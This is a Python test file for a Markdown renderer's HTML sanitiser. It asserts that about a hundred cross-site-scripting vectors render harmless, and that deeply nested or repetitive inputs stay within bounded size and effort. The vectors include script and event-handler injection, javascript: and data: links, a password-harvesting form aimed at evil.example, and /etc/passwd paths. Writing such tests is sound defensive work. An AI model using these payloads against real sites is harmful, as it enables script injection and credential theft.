import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.core.markdown import LONGEST
from kb.core.markdown.cleaning import clean
from tests.kb.core.markdown_pages import harm_in, shown

# Collected from the OWASP filter evasion cheat sheet, the test suites of DOMPurify and
# CommonMark, and published advisories of Markdown renderers; chosen and shortened here.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div id=location class=so-dialog>x</div>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!ENTITY x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61)",
    "[x](&#106;avascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](\\j\\avascript:alert(1))",
    "[x](javascript://example.com/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](view-source:https://example.com)",
    "[x](filesystem:https://example.com/x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](http:\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](http://)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x](<https://a.example/><script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x@y.example>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <javascript:alert(1)> 'title'",
    "[x][R]\n\n[r]: https://a.example 'a\" onclick=\"alert(1)'\n[r]: javascript:alert(1)",
    "[javascript:alert(1)][]\n\n[javascript:alert(1)]: data:text/html,x",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](/media/articles/other.svg)",
    "![x\" onerror=\"alert(1)](image:7)",
    "![<img src=x onerror=alert(1)>](image:7)",
    "![x](image:7 'a\" onload=\"alert(1)')",
    "![x](image:../../etc/passwd)",
    "![x](image:7#\" onerror=alert(1))",
    "[x](article:reset#\" onclick=\"alert(1))",
    "[x](<article:reset\" onclick=\"alert(1)>)",
    "[x](article:javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x' onmouseover='alert(1)\nx\n```",
    "~~~ html onload=alert(1)\n<script>alert(1)</script>\n~~~",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# "><script>alert(1)</script>',
    "|<script>alert(1)</script>|\n|:-:|\n|<svg onload=alert(1)>|",
    "> **Note:** <script>alert(1)</script>",
    "> **Warning\" onclick=\"alert(1):** x",
    "- [x\" onclick=alert(1)] a",
    "- [x] <input onfocus=alert(1)>",
    "1000000000000000000000. x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "\u2028<script>alert(1)</script>\ufeff",
    "*<b*<script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("text", VECTORS)
def test_hostile_text_becomes_harmless(text):
    assert harm_in(shown(text).html) == []


@pytest.mark.parametrize(
    "frame", ["> {}", "- {}", "1. {}", "# {}", "**{}**", "[{}](/a)", "![{}](image:7)"]
)
def test_hostile_text_becomes_harmless_inside_something_else(frame):
    harmful = [text for text in VECTORS if harm_in(shown(frame.format(text)).html)]

    assert harmful == []


@pytest.mark.parametrize("html", [text for text in VECTORS if text.startswith("<")])
def test_second_lock_holds_alone(html):
    assert harm_in(clean(html)) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=' javascript:x'>",
        "<img src=/b.png>",
    ],
)
def test_these_tests_would_see_harm(html):
    assert harm_in(html) != []


pieces = st.sampled_from(
    [
        "<", ">", '"', "'", "`", "```", "~~~", "[", "]", "(", ")", "![", "](", ":", "#",
        "\\", "&", "&#x3c;", "&lt;", "&colon;", "javascript:", "data:", "image:7",
        "article:reset", "https://a.example/", "<script>", "</script>", "<img src=x ",
        "onerror=alert(1)", "<svg ", "<!--", "-->", "\n", "\n\n", "> ", "- ", "1. ", "|",
        "|-|", "    ", "**Note:** ", "- [x] ", "[r]: ", "\x00", "\t", "a", "語", "*", "_",
    ]
)  # fmt: skip


@settings(deadline=None, max_examples=300)
@given(st.lists(pieces, max_size=30).map("".join))
def test_text_made_of_dangerous_pieces_is_harmless(text):
    assert harm_in(shown(text).html) == []


@settings(deadline=None, max_examples=150)
@given(st.text(max_size=200))
def test_any_text_is_harmless_and_its_anchors_are_unique(text):
    rendered = shown(text)
    anchors = [heading.anchor for heading in rendered.contents]

    assert harm_in(rendered.html) == []
    assert len(set(anchors)) == len(anchors)
    assert all(f'id="{anchor}"' in rendered.html for anchor in anchors)


def steps_taken(text):
    """Count the lines of Python run while an article is rendered."""
    count = 0

    def step(_frame, event, _argument):
        nonlocal count
        count += event == "line"
        return step

    before = sys.gettrace()
    sys.settrace(step)
    try:
        shown(text)
    finally:
        sys.settrace(before)
    return count


DEEP = {
    "brackets": "[", "pictures": "![", "links": "[a](", "ends": "](", "bold": "**a",
    "mixed emphasis": "*a_ ", "quotes": "> ", "lists": "- a\n", "tags": "<a", "pipes": "a|",
    "backticks": "`a``b", "strike": "~~a", "entities": "&#", "definitions": "[a]: b\n",
    "headings": "# a\n", "tasks": "- [ ] a\n", "callouts": "> **Note:** a\n\n",
    "articles": "[a](article:b) ", "comments": "<!--", "fences": "```\n", "rules": "* * ",
    "rows": "|a|\n|-|\n",
}  # fmt: skip


@pytest.mark.parametrize("piece", DEEP.values(), ids=DEEP)
def test_work_grows_with_the_length_and_not_with_its_square(piece):
    short, long = (steps_taken(piece * (size // len(piece))) for size in (1000, 4000))

    assert long < 5.5 * short + 1000  # four times the text; the square would be 16


@pytest.mark.parametrize(
    "text",
    [
        "[x]: /" + "u" * 1900 + "\n\n" + "[x] " * 20_000,
        "[x]: /u '" + "t" * 40_000 + "'\n\n" + "[x] " * 10_000,
        "|a" * 900 + "|\n" + "|-" * 900 + "|\n" + "|x|\n" * 10_000,
    ],
    ids=["long address used often", "long title used often", "rows that are filled up"],
)
def test_short_text_makes_no_huge_page(text):
    assert len(shown(text).html) < 15 * LONGEST


@pytest.mark.parametrize(
    "text",
    [
        "> " * 30_000 + "a",
        "".join("  " * depth + "- a\n" for depth in range(300)),
        "- " * 30_000 + "a",
        "![" * 10_000 + "a" + "](image:7)" * 5_000,
        "[" * 20_000 + "a" + "](/b)" * 10_000,
        "**_" * 20_000 + "a" + "_**" * 10_000,
    ],
    ids=["quotes", "lists", "markers", "pictures", "links", "emphasis"],
)
def test_deep_nesting_neither_fails_nor_grows(text):
    html = shown(text).html

    assert harm_in(html) == []
    assert len(html) < 15 * LONGEST
